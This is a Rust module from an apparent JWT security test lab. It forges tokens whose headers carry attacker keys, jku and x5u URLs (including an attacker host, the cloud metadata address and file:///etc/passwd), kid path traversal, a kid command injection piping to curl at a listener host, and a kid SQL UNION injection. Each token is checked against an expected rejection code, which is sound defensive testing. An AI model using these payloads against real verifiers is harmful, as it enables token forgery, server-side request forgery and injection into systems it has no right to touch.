//! Attacks by the header: it brings a key, says where one lies, or sets rules of its own.

use super::{AttackKind, Definition, JudgedBy, attack_text, define};
use crate::code::Code;
use crate::lab::forge::{Members, quoted};
use crate::lab::naive;
use crate::profiles::demo::DemoAlgorithm;

pub(super) static ATTACKS: &[Definition] = &[
    define(
        attack_text!("inline-key"),
        11,
        "ik",
        Code::HeaderNotAllowed,
        AttackKind::Token {
            judged_by: JudgedBy::Demo,
            forge: |forge, _| {
                let header = forge.original.header.with("jwk", forge.attacker_jwk());
                forge.by_attacker(&header, "Made with the key that the header brings.")
            },
            naive: &naive::TRUSTS_JWK,
        },
    ),
    Definition {
        variants: &[
            "https://keys.attacker.example/jwks.json",
            "http://169.254.169.254/latest/meta-data/",
            "file:///etc/passwd",
        ],
        ..define(
            attack_text!("spoofed-key-set"),
            12,
            "sk",
            Code::HeaderNotAllowed,
            AttackKind::Token {
                judged_by: JudgedBy::Demo,
                forge: |forge, address| {
                    let header = forge.original.header.with("jku", quoted(address));
                    forge.by_attacker(&header, "Made with the key that would lie at the address.")
                },
                naive: &naive::FOLLOWS_JKU,
            },
        )
    },
    Definition {
        needs: Some(DemoAlgorithm::HS256),
        variants: PATHS,
        ..define(attack_text!("kid-empty-file"), 13, "ke", Code::UnknownKid, EMPTY_FILE)
    },
    Definition {
        needs: Some(DemoAlgorithm::RS256),
        variants: PATHS,
        ..define(attack_text!("kid-empty-file-rs256"), 13, "ke", Code::AlgNotAllowed, EMPTY_FILE)
    },
    Definition {
        variants: &["| sleep 10", "| curl https://listener.attacker.example/"],
        ..define(
            attack_text!("kid-command"),
            14,
            "ki",
            Code::UnknownKid,
            AttackKind::Token {
                judged_by: JudgedBy::Demo,
                forge: |forge, command| {
                    let header = forge.original.header.with("kid", quoted(command));
                    Ok(if forge.is_mac() {
                        forge.sign_with_hmac(&header, b"", "Made with the empty key, which such a command prints.")
                    } else {
                        forge.stale(header.to_string(), forge.original.claims.to_string())
                    })
                },
                naive: &naive::RUNS_KID_AS_COMMAND,
            },
        )
    },
    Definition {
        needs: Some(DemoAlgorithm::HS256),
        ..define(attack_text!("kid-sql"), 15, "ks", Code::UnknownKid, SQL)
    },
    Definition {
        needs: Some(DemoAlgorithm::RS256),
        ..define(attack_text!("kid-sql-rs256"), 15, "ks", Code::AlgNotAllowed, SQL)
    },
    Definition {
        variants: &["jku", "x5u", "x5c", "jwk", "crit", "zip"],
        ..define(
            attack_text!("outside-header"),
            16,
            "oa",
            Code::HeaderNotAllowed,
            AttackKind::Token {
                judged_by: JudgedBy::Demo,
                forge: |forge, member| Ok(forge.stale_header(member, quoted(super::claims::LISTENER))),
                naive: &naive::CALLS_ADDRESSES,
            },
        )
    },
    define(
        attack_text!("outside-kid"),
        16,
        "oa",
        Code::UnknownKid,
        AttackKind::Token {
            judged_by: JudgedBy::Demo,
            forge: |forge, _| Ok(forge.stale_header("kid", quoted(super::claims::LISTENER))),
            naive: &naive::CALLS_ADDRESSES,
        },
    ),
    Definition {
        variants: &["unknown", "exp"],
        ..define(
            attack_text!("crit"),
            31,
            "cr",
            Code::HeaderNotAllowed,
            AttackKind::Token {
                judged_by: JudgedBy::Lab,
                forge: |forge, listed| {
                    let header = forge.lab_header();
                    let header = match listed {
                        "exp" => header.with("crit", r#"["exp"]"#).with("exp", forge.seconds(60)),
                        _ => header.with("crit", r#"["x"]"#).with("x", "true"),
                    };
                    forge.resigned(header.to_string(), forge.original.claims.to_string())
                },
                naive: &naive::IGNORES_CRIT,
            },
        )
    },
    Definition {
        variants: TYPES,
        ..define(
            attack_text!("another-typ"),
            32,
            "at",
            Code::WrongType,
            AttackKind::Token {
                judged_by: JudgedBy::Lab,
                forge: |forge, typ| forge.resign_header("typ", quoted(typ)),
                naive: &naive::IGNORES_TYP,
            },
        )
    },
    Definition {
        variants: TYPES,
        ..define(
            attack_text!("another-typ-stale"),
            32,
            "at",
            Code::BadSignature,
            AttackKind::Token {
                judged_by: JudgedBy::Demo,
                forge: |forge, typ| Ok(forge.stale_header("typ", quoted(typ))),
                naive: &naive::SKIPS_SIGNATURE,
            },
        )
    },
    Definition {
        variants: &["absent", "JWT"],
        ..define(
            attack_text!("typ-at-api"),
            32,
            "at",
            Code::WrongType,
            AttackKind::Token {
                judged_by: JudgedBy::LabApi,
                forge: |forge, typ| {
                    let header = match typ {
                        "JWT" => forge.lab_header().with("typ", quoted("JWT")),
                        _ => forge.lab_header().without("typ"),
                    };
                    forge.resigned(header.to_string(), super::claims::api_claims(forge).to_string())
                },
                naive: &naive::IGNORES_TYP,
            },
        )
    },
    Definition {
        variants: &["x5c", "x5u"],
        ..define(
            attack_text!("certificate-in-header"),
            34,
            "ce",
            Code::HeaderNotAllowed,
            AttackKind::Token {
                judged_by: JudgedBy::Demo,
                forge: |forge, member| {
                    let value = match member {
                        "x5u" => quoted("https://keys.attacker.example/certificate.pem"),
                        _ => format!("[{}]", quoted(&forge.attacker_certificate()?)),
                    };
                    let header = forge.original.header.with("alg", quoted("RS256")).with(member, value);
                    forge.by_rsa_attacker(&header, "Made with the key of the certificate.")
                },
                naive: &naive::TRUSTS_CERTIFICATES,
            },
        )
    },
];

const TYPES: &[&str] = &["at+jwt", "logout+jwt"];

const PATHS: &[&str] = &["../../../../dev/null", "/dev/null", "/invalid_path", "no-name"];

const EMPTY_FILE: AttackKind = AttackKind::Token {
    judged_by: JudgedBy::Demo,
    forge: |forge, path| {
        let path = if path == "no-name" { "" } else { path };
        let header: Members = forge.original.header.with("kid", quoted(path));
        Ok(forge.sign_with_hmac(&header, b"", "Made with the empty key, which is what lies there."))
    },
    naive: &naive::READS_KID_AS_PATH,
};

const SQL: AttackKind = AttackKind::Token {
    judged_by: JudgedBy::Demo,
    forge: |forge, _| {
        let header = forge.original.header.with("kid", quoted("x' UNION SELECT 'known-key' -- "));
        Ok(forge.sign_with_hmac(&header, b"known-key", "Made with the key that the query selects."))
    },
    naive: &naive::PASTES_KID_INTO_SQL,
};
